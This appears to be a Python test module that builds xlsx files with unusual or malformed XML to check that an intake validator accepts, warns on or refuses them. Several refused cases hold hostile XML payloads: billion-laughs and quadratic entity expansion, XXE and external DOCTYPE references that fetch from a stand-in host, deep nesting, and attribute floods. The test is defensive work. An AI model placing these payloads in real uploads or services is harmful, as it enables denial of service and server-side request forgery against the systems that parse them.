"""Cases about the XML of the parts: other spellings of the same, damaged tables, bombs, bloat."""

from __future__ import annotations

import re

from tests.intake.build import Xlsx, filled
from tests.intake.cases import ACCEPT, REFUSE, WARN, case

K2 = "xl/worksheets/sheet3.xml"
STRINGS = "xl/sharedStrings.xml"


def sheets(book: Xlsx) -> list[str]:
    return [name for name in book.parts if name.startswith("xl/worksheets/sheet")]


def inline(book: Xlsx, part: str) -> Xlsx:
    """All shared texts of a sheet as inline texts."""
    items = re.findall(r"<si>(.*?)</si>", book.text(STRINGS))
    return book.sub(
        part,
        r'(<c r="[A-Z]+\d+"(?: s="\d+")?) t="s"><v>(\d+)</v></c>',
        lambda m: f'{m[1]} t="inlineStr"><is>{items[int(m[2])]}</is></c>',
    )


@case(ACCEPT)
def libreoffice_style_prefix() -> bytes:
    book = filled()
    for part in [*sheets(book), STRINGS, "xl/workbook.xml", "xl/styles.xml"]:
        book.sub(part, r"<(/?)([A-Za-z])", r"<\1x:\2")
        book.sub(part, r'xmlns="', 'xmlns:x="')
    return book.data()


@case(ACCEPT)
def inline_strings() -> bytes:
    book = filled()
    for part in sheets(book):
        inline(book, part)
    del book.parts[STRINGS]
    book.sub("xl/_rels/workbook.xml.rels", r'<Relationship [^>]*sharedStrings\.xml"/>', "")
    book.sub("[Content_Types].xml", r'<Override PartName="/xl/sharedStrings\.xml"[^>]*/>', "")
    return book.data()


@case(ACCEPT)
def rich_text_runs() -> bytes:
    book = filled()
    runs = (
        '<r><t xml:space="preserve">setengah </t></r>'
        '<r><rPr><b/><sz val="10"/></rPr><t>tebal</t></r>'
        '<rPh sb="0" eb="3"><t>fonetik</t></rPh><phoneticPr fontId="1"/>'
    )
    index = book.shared("", runs)
    return book.raw("Analisis", "E6", f'<c r="E6" t="s"><v>{index}</v></c>').data()


@case(ACCEPT)
def rich_text_runs_in_the_cell() -> bytes:
    runs = '<is><r><t>setengah </t></r><r><t>tebal</t></r><rPh sb="0" eb="3"><t>x</t></rPh></is>'
    return filled().raw("Analisis", "E6", f'<c r="E6" t="inlineStr">{runs}</c>').data()


@case(ACCEPT)
def cdata_and_comments_in_the_xml() -> bytes:
    xml = '<c r="E6" t="str"><!-- catatan --><v><![CDATA[setengah <tebal>]]></v></c>'
    return filled().raw("Analisis", "E6", xml).data()


@case(ACCEPT)
def pretty_printed_xml() -> bytes:
    book = filled()
    for part in sheets(book):
        book.sub(part, r"><(row|c|v|/row|/c|/sheetData)", r">\n  <\1")
    return book.data()


@case(ACCEPT)
def attributes_in_another_order() -> bytes:
    book = filled()
    for part in sheets(book)[:-1]:
        book.sub(part, r'<c (r="[A-Z]+\d+") (s="\d+")', r"<c \2 \1")
    return book.data()


@case(ACCEPT)
def single_quotes_in_the_xml() -> bytes:
    book = filled()
    for part in sheets(book):
        book.sub(part, r'<c r="([A-Z]+\d+)"', r"<c r='\1'")
    return book.data()


@case(ACCEPT)
def strict_ooxml() -> bytes:
    book = filled()
    for name, part in book.parts.items():
        text = part.decode("utf-8", "surrogateescape")
        text = text.replace(
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
            "http://purl.oclc.org/ooxml/officeDocument/relationships",
        ).replace(
            "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
            "http://purl.oclc.org/ooxml/spreadsheetml/main",
        )
        book.parts[name] = text.encode("utf-8", "surrogateescape")
    return book.raw("Identitas", "C16", '<c r="C16" t="d"><v>2027-01-06</v></c>').data()


@case(ACCEPT)
def mac_date_system() -> bytes:
    book = filled().sub("xl/workbook.xml", r"<workbookPr", '<workbookPr date1904="1"')
    return book.typed("Identitas", {"C10": 44935.0, "C16": 44931.0}).data()


@case(ACCEPT)
def utf8_with_a_byte_order_mark() -> bytes:
    book = filled()
    for part in [*sheets(book), STRINGS, "xl/workbook.xml"]:
        book.parts[part] = b"\xef\xbb\xbf" + book.parts[part]
    return book.data()


@case(ACCEPT)
def cells_without_refs() -> bytes:
    book = filled()
    for part in sheets(book):
        text = book.text(part)
        out, at = [], 0
        for match in re.finditer(r"<row r=\"(\d+)\"[^>]*?(?:/>|>(.*?)</row>)", text, re.DOTALL):
            out.append(text[at : match.start()])
            cells = match[2] or ""
            column = 1
            row = ""
            for cell in re.finditer(r'<c r="([A-Z]+)\d+"(.*?)(/>|>.*?</c>)', cells, re.DOTALL):
                number = ord(cell[1]) - 64
                row += "<c/>" * (number - column)
                row += f"<c{cell[2]}{cell[3]}"
                column = number + 1
            out.append((int(match[1]), row))
            at = match.end()
        built, last = "", 0
        for piece in out:
            if isinstance(piece, str):
                built += piece
            else:
                built += "<row></row>" * (piece[0] - last - 1) + f"<row>{piece[1]}</row>"
                last = piece[0]
        book.parts[part] = (built + text[at:]).encode()
    return book.data()


@case(ACCEPT)
def dimension_lie_small() -> bytes:
    book = filled()
    for part in sheets(book):
        book.sub(part, r'<dimension ref="[^"]*"/>', '<dimension ref="A1"/>')
    return book.data()


@case(ACCEPT)
def dimension_lie_large() -> bytes:
    book = filled()
    for part in sheets(book):
        book.sub(part, r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>')
    return book.data()


@case(REFUSE, "K06")
def billion_laughs_shared_strings() -> bytes:
    book = filled()
    entities = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    return book.sub(STRINGS, r"<sst", f"{entities}<sst").data()


@case(REFUSE, "K06")
def quadratic_blowup() -> bytes:
    book = filled()
    entity = f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>'
    return book.sub(STRINGS, r"<sst", f"{entity}<sst").data()


@case(REFUSE, "K06")
def xxe_parameter_entity() -> bytes:
    doctype = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://contoh.example/x.dtd"> %p;]>'
    return filled().sub("xl/workbook.xml", r"<workbook ", f"{doctype}<workbook ").data()


@case(REFUSE, "K06")
def doctype_in_a_part_that_nobody_reads() -> bytes:
    doctype = '<!DOCTYPE x SYSTEM "http://contoh.example/x.dtd">'
    return filled().sub("xl/theme/theme1.xml", r"<a:theme ", f"{doctype}<a:theme ").data()


@case(REFUSE, "K06")
def utf16_doctype() -> bytes:
    book = filled()
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><worksheet/>'
    book.parts[K2] = text.encode("utf-16")
    return book.data()


@case(REFUSE, "K06")
def utf16_sheet() -> bytes:
    book = filled()
    text = book.text(K2).replace("UTF-8", "UTF-16")
    book.parts[K2] = text.encode("utf-16")
    return book.data()


@case(REFUSE, "K06")
def utf16_without_a_mark() -> bytes:
    book = filled()
    book.parts[K2] = book.text(K2).encode("utf-16-le")
    return book.data()


@case(REFUSE, "K06")
def declared_in_another_encoding() -> bytes:
    return filled().edit(K2, 'encoding="UTF-8"', 'encoding="UTF-7"').data()


@case(REFUSE, "K03")
def bytes_that_are_no_utf8() -> bytes:
    book = filled()
    book.parts[STRINGS] = book.parts[STRINGS].replace(b"<t>No</t>", b"<t>N\xff\xfe</t>")
    return book.data()


@case(REFUSE, "K06")
def many_attributes() -> bytes:
    many = " ".join(f'a{i}="1"' for i in range(100_000))
    return filled().edit(K2, '<row r="6"', f'<row {many} r="6"').data()


@case(REFUSE, "K06")
def many_attributes_on_the_root() -> bytes:
    many = " ".join(f'a{i}="1"' for i in range(100_000))
    return filled().edit(K2, "<worksheet ", f"<worksheet {many} ").data()


@case(REFUSE, "K06")
def many_attributes_in_the_workbook() -> bytes:
    many = " ".join(f'a{i}="1"' for i in range(5_000))
    return filled().edit("xl/workbook.xml", "<workbook ", f"<workbook {many} ").data()


@case(REFUSE, "K06")
def deeply_nested_xml() -> bytes:
    deep = "<x>" * 50_000 + "</x>" * 50_000
    return filled().edit(K2, "</sheetData>", f"</sheetData>{deep}").data()


@case(ACCEPT)
def row_formatting_bloat() -> bytes:
    rows = "".join(f'<row r="{i}" s="5" customFormat="1"/>' for i in range(16, 1_048_577))
    return filled().edit(K2, "</sheetData>", f"{rows}</sheetData>").data()


@case(ACCEPT)
def million_empty_styled_cells() -> bytes:
    rows = "".join(
        f'<row r="{i}">'
        + "".join(f'<c r="{c}{i}" s="5"/>' for c in "ABCDEFGHIJKLMNOPQRSTUVWXY")
        + "</row>"
        for i in range(46, 40_046)
    )
    return filled().edit(K2, "</sheetData>", f"{rows}</sheetData>").data()


@case(WARN, "F22")
def far_cell_xfd1048576() -> bytes:
    row = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return filled().edit(K2, "</sheetData>", f"{row}</sheetData>").data()


@case(WARN, "F22")
def thousands_of_far_cells() -> bytes:
    rows = "".join(f'<row r="{i}"><c r="ZZ{i}"><v>{i}</v></c></row>' for i in range(5000, 9000))
    return filled().edit(K2, "</sheetData>", f"{rows}</sheetData>").data()


@case(REFUSE, "K06")
def cell_address_beyond_the_sheet() -> bytes:
    row = '<row r="9999999"><c r="A9999999"><v>1</v></c></row>'
    return filled().edit(K2, "</sheetData>", f"{row}</sheetData>").data()


@case(REFUSE, "K06")
def cell_address_that_is_none() -> bytes:
    return filled().edit(K2, '<c r="F6"', '<c r="6F"').data()


@case(REFUSE, "K06")
def duplicate_cell_refs() -> bytes:
    book = filled()
    one = book.xml_of("Kinerja", "F6")
    return book.edit(K2, one, f'{one}<c r="F6"><v>99</v></c>').data()


@case(REFUSE, "K06")
def duplicate_cell_refs_in_another_row_element() -> bytes:
    row = '<row r="6"><c r="F6"><v>99</v></c></row>'
    return filled().edit(K2, "</sheetData>", f"{row}</sheetData>").data()


@case(REFUSE, "K06")
def duplicate_cell_refs_in_another_spelling() -> bytes:
    book = filled()
    one = book.xml_of("Kinerja", "F6")
    return book.edit(K2, one, f"{one}<c s='1' r='F6'><v>99</v></c>").data()


@case(REFUSE, "K03")
def missing_shared_strings() -> bytes:
    book = filled()
    del book.parts[STRINGS]
    return book.data()


@case(REFUSE, "K03")
def missing_shared_strings_and_its_relationship() -> bytes:
    book = filled()
    del book.parts[STRINGS]
    return book.sub(
        "xl/_rels/workbook.xml.rels", r'<Relationship [^>]*sharedStrings\.xml"/>', ""
    ).data()


@case(REFUSE, "K03")
def shared_string_index_out_of_range() -> bytes:
    return filled().raw("Kinerja", "C6", '<c r="C6" t="s"><v>999999</v></c>').data()


@case(REFUSE, "K03")
def shared_string_index_negative() -> bytes:
    return filled().raw("Kinerja", "C6", '<c r="C6" t="s"><v>-1</v></c>').data()


@case(REFUSE, "K05")
def huge_shared_strings() -> bytes:
    many = "".join(f"<si><t>{'teks' * 23}{i:07d}</t></si>" for i in range(300_000))
    return filled().edit(STRINGS, "</sst>", f"{many}</sst>").data()


@case(REFUSE, "K05")
def sheet_full_of_values() -> bytes:
    rows = "".join(
        f'<row r="{i}">'
        + "".join(f'<c r="{c}{i}"><v>{i}</v></c>' for c in "NOPQRSTUVWXYZ")
        + "</row>"
        for i in range(20, 60_000)
    )
    return filled().edit(K2, "</sheetData>", f"{rows}</sheetData>").data()


@case(ACCEPT)
def defined_names_flood() -> bytes:
    names = "".join(f'<definedName name="sampah{i}">#REF!</definedName>' for i in range(20_000))
    return filled().edit("xl/workbook.xml", "</definedNames>", f"{names}</definedNames>").data()


@case(REFUSE, "K03")
def sheet_cut_in_the_middle() -> bytes:
    book = filled()
    book.parts[K2] = book.parts[K2][: len(book.parts[K2]) // 2]
    return book.data()


@case(REFUSE, "K03")
def workbook_xml_that_does_not_close() -> bytes:
    return filled().edit("xl/workbook.xml", "</workbook>", "").data()
